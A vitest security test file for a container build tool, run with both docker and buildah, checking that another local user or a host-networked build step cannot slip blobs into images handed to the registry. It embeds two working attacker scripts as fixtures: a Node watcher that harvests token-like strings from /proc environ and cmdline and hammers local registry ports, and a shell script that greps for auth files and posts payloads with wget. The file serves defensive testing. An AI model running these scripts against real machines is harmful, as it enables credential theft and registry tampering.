/**
 * Builds on a machine where others listen: another user who watches all processes and all ports, and a build step with the
 * host's network. Neither may get into what an engine hands over to the registry.
 */
import { spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { chmodSync, copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { sha256Hex } from '../../../src/core/ground/hashes.ts';
import { useBothEngines } from '../../support/both-engines.ts';
import type { TestEngine } from '../../support/engines.ts';
import { listFiles } from '../../support/layer-files.ts';
import { ordinaryUser } from '../../support/other-user.ts';
import { commitProject } from '../../support/project.ts';
import { readImage, repoAddress } from '../../support/registry-state.ts';
import type { TestRegistry } from '../../support/registry.ts';
import { say } from '../../support/rounds.ts';
import { newMachine, slipway, type Machine } from '../../support/slipway.ts';

let docker: TestEngine;
let buildah: TestEngine;
let registry: TestRegistry;
let base: string;

useBothEngines((opened) => ({ docker, buildah, registry, base } = opened));

const EVIL = 'evil';
const EVIL_DIGEST = `sha256:${sha256Hex(EVIL)}`;
const ENGINES = ['docker', 'buildah'] as const;
type EngineName = (typeof ENGINES)[number];

function environmentOf(machine: Machine, engine: EngineName): Readonly<Record<string, string | undefined>> {
  const common = { ...machine.env, WERF_PARALLEL_TASKS_LIMIT: '0' };
  if (engine === 'docker') return common;
  const { CONTAINERS_STORAGE_CONF } = buildah.env;
  return { ...common, WERF_BUILDAH_MODE: 'native-chroot', CONTAINERS_STORAGE_CONF };
}

/** Image names in `/proc` and `127.0.0.1` ports that listen are attacked as fast as they are seen. */
const WATCHER = `
const { readdirSync, readFileSync } = require('node:fs');
const { request } = require('node:http');
const seen = { names: new Set(), ports: new Set(), statuses: {} };
const ask = (host, method, path, body, login) => new Promise((resolve) => {
  const [hostname, port] = host.split(':');
  const headers = login === undefined ? {} : { authorization: 'Basic ' + Buffer.from(login).toString('base64') };
  const asked = request({ hostname, port, method, path, headers, timeout: 500, agent: false }, (answer) => {
    seen.statuses[answer.statusCode] = (seen.statuses[answer.statusCode] ?? 0) + 1;
    answer.resume();
    answer.on('end', resolve).on('error', resolve).on('close', resolve);
  });
  asked.on('error', resolve).on('timeout', () => asked.destroy());
  asked.end(body);
});
const attack = async (host, path, words) => {
  for (const login of [undefined, ...words.map((word) => 'slipway:' + word)]) {
    await ask(host, 'POST', '/v2/' + path + '/blobs/uploads/?digest=${EVIL_DIGEST}', '${EVIL}', login);
    await ask(host, 'PUT', '/v2/' + path + '/manifests/stage', '{}', login);
  }
};
const look = async () => {
  const words = new Set();
  const names = new Set();
  for (const pid of readdirSync('/proc')) {
    if (!/^\\d+$/.test(pid)) continue;
    for (const file of ['cmdline', 'environ']) {
      let text = '';
      try { text = readFileSync('/proc/' + pid + '/' + file, 'latin1'); } catch { continue; }
      for (const [, host, path] of text.matchAll(/(127\\.0\\.0\\.1:\\d+)\\/(slipway-[\\w./-]+)/g)) names.add(host + ' ' + path);
      if (text.includes('127.0.0.1:')) for (const [word] of text.matchAll(/[\\w+/=-]{16,}/g)) words.add(word);
    }
  }
  for (const name of names) {
    seen.names.add(name);
    await attack(...name.split(' '), [...words].slice(0, 20));
  }
  for (const line of readFileSync('/proc/net/tcp', 'utf8').split('\\n')) {
    const [, port] = /^ *\\d+: 0100007F:([0-9A-F]{4}) 00000000:0000 0A/.exec(line) ?? [];
    if (port === undefined || port === process.argv[2]) continue;
    seen.ports.add(port);
    await attack('127.0.0.1:' + parseInt(port, 16), 'slipway/image', []);
  }
};
(async () => {
  let isOver = false;
  process.stdin.on('end', () => (isOver = true)).resume();
  let rounds = 0;
  for (; !isOver; rounds++) { await look(); await new Promise(setImmediate); }
  console.log(JSON.stringify({ rounds, names: [...seen.names], ports: seen.ports.size, statuses: seen.statuses }));
})();
`;

interface Seen {
  readonly rounds: number;
  readonly names: readonly string[];
  readonly ports: number;
  readonly statuses: Readonly<Record<string, number>>;
}

/** Lets a user without rights watch while `work` runs. */
async function watched(work: () => Promise<void>): Promise<Seen> {
  const folder = mkdtempSync(join(tmpdir(), 'slipway-watcher-'));
  try {
    chmodSync(folder, 0o755);
    const node = join(folder, 'node');
    copyFileSync(process.execPath, node);
    const script = join(folder, 'watch.cjs');
    writeFileSync(script, WATCHER);
    const registryPort = Number(registry.host.split(':')[1]).toString(16).toUpperCase().padStart(4, '0');
    // env only runs what follows, also where there is nothing to become another user with.
    const args = [...ordinaryUser().prefix, node, script, registryPort];
    const watcher = spawn('env', args, { stdio: ['pipe', 'pipe', 'inherit'], cwd: '/' });
    let output = '';
    watcher.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
    const ended = once(watcher, 'close');
    await work();
    watcher.stdin.end();
    await ended;
    return JSON.parse(output) as Seen;
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

const NAMES = ['one', 'two', 'three'];

function project(extra = '', dockerfile = ''): Readonly<Record<string, string>> {
  const images = NAMES.map((name) => `---\nimage: ${name}\ndockerfile: ${name}.Dockerfile\n`);
  const files = NAMES.map((name) => [
    `${name}.Dockerfile`,
    // A layer that takes a moment on its way.
    `FROM ${base}\nRUN sleep ${NAMES.indexOf(name)}; echo ${randomUUID()} > /unique; head -c 3000000 /dev/urandom > /noise; echo ${name} > /name\n`,
  ]);
  return {
    'werf.yaml': `project: handover\nconfigVersion: 1\n${images.join('')}${extra}`,
    ...Object.fromEntries(files as [string, string][]),
    ...(dockerfile === '' ? {} : { 'evil.Dockerfile': dockerfile }),
  };
}

async function expectRight(repo: string, report: string): Promise<void> {
  const { Images } = JSON.parse(readFileSync(report, 'utf8')) as {
    readonly Images: Readonly<Record<string, { readonly DockerTag: string }>>;
  };
  for (const name of NAMES) {
    const image = await readImage(repoAddress(repo), Images[name]?.DockerTag ?? '');
    expect((await listFiles(repoAddress(repo), image)).name).toContain(sha256Hex(`${name}\n`));
  }
  const answer = await fetch(
    `http://${registry.host}/v2/${repo.split('/').slice(1).join('/')}/blobs/${EVIL_DIGEST}`,
  );
  expect(answer.status).toBe(404);
}

describe.each(ENGINES)('while %s hands images over', (engine) => {
  test('another user of the machine sees no way in', async () => {
    const machine = newMachine(docker.env);
    try {
      const repo = `${registry.host}/watched/${engine}`;
      const report = join(machine.folder, 'report.json');
      const work = join(machine.folder, 'work');
      await commitProject(work, project());
      const seen = await watched(async () => {
        const result = await slipway(
          ['build', '--repo', repo, '--save-build-report', `--build-report-path=${report}`],
          { cwd: work, env: environmentOf(machine, engine) },
        );
        expect(result.exitCode, result.stderr).toBe(0);
      });
      say(
        `${engine}: another user looked ${seen.rounds} times, saw ${seen.names.length} names and ${seen.ports} ports: ${JSON.stringify(seen.statuses)}`,
      );
      // It was there, and it has tried.
      expect(seen.ports).toBeGreaterThan(0);
      expect(seen.names.some((name) => /slipway-\d+-\d+-\d+\/\d+$/.test(name))).toBe(true);
      expect(seen.statuses['401']).toBeGreaterThan(0);
      expect(Object.keys(seen.statuses).filter((status) => status.startsWith('2'))).toEqual([]);
      await expectRight(repo, report);
    } finally {
      machine.remove();
    }
  });

  test("a build step with the host's network gets no further", async () => {
    const machine = newMachine(docker.env);
    try {
      const repo = `${registry.host}/inside/${engine}`;
      const report = join(machine.folder, 'report.json');
      const work = join(machine.folder, 'work');
      const evil = [
        'end=$(($(busybox date +%s)+9)); tries=0',
        'while [ $(busybox date +%s) -lt $end ]; do',
        '  for c in /proc/[0-9]*/cmdline; do',
        `    l=$(busybox tr '\\000' ' ' < $c 2>/dev/null)`,
        '    case "$l" in *docker://127.0.0.1:*)',
        '      n=${l##*docker://}; n=${n%% *}; n=${n%:stage}; h=${n%%/*}; p=${c%/cmdline}',
        '      echo "seen $n"',
        '      for f in /tmp/slipway-*/*.json $p/root/tmp/slipway-*/*.json $p/cwd/* $p/environ; do',
        '        busybox grep -l auth $f 2>/dev/null && echo STOLEN $f',
        '      done',
        `      busybox wget -q -O - --post-data=${EVIL} "http://$h/v2/\${n#*/}/blobs/uploads/?digest=${EVIL_DIGEST}" 2>/dev/null && echo POSTED`,
        '    ;; esac',
        '  done',
        `  for x in $(busybox awk '$4=="0A" && $2 ~ /^0100007F:/ {print substr($2,10)}' /proc/net/tcp); do`,
        '    [ $((0x$x)) = REGISTRY ] && continue; tries=$((tries+1))',
        `    busybox wget -q -T 1 -O - --post-data=${EVIL} "http://127.0.0.1:$((0x$x))/v2/slipway/image/blobs/uploads/?digest=${EVIL_DIGEST}" 2>/dev/null && echo POSTED`,
        '  done',
        'done; echo "tries: $tries"',
      ];
      const script = evil.join('\n').replace('REGISTRY', registry.host.split(':')[1] ?? '');
      const extra = '---\nimage: evil\ndockerfile: evil.Dockerfile\nnetwork: host\n';
      await commitProject(work, {
        ...project(extra, `FROM ${base}\nCOPY evil.sh /\nRUN echo ${randomUUID()}; sh /evil.sh\n`),
        'evil.sh': script,
      });
      const result = await slipway(
        ['build', '--repo', repo, '--save-build-report', `--build-report-path=${report}`],
        { cwd: work, env: environmentOf(machine, engine) },
      );
      expect(result.exitCode, result.stderr).toBe(0);
      const output = result.stdout + result.stderr;
      expect(Number(/tries: (\d+)/.exec(output)?.[1])).toBeGreaterThan(0);
      if (engine === 'buildah') expect(output).toMatch(/seen 127\.0\.0\.1:\d+\/slipway-/);
      expect(output).not.toMatch(/STOLEN \/|POSTED$/m);
      await expectRight(repo, report);
    } finally {
      machine.remove();
    }
  });
});
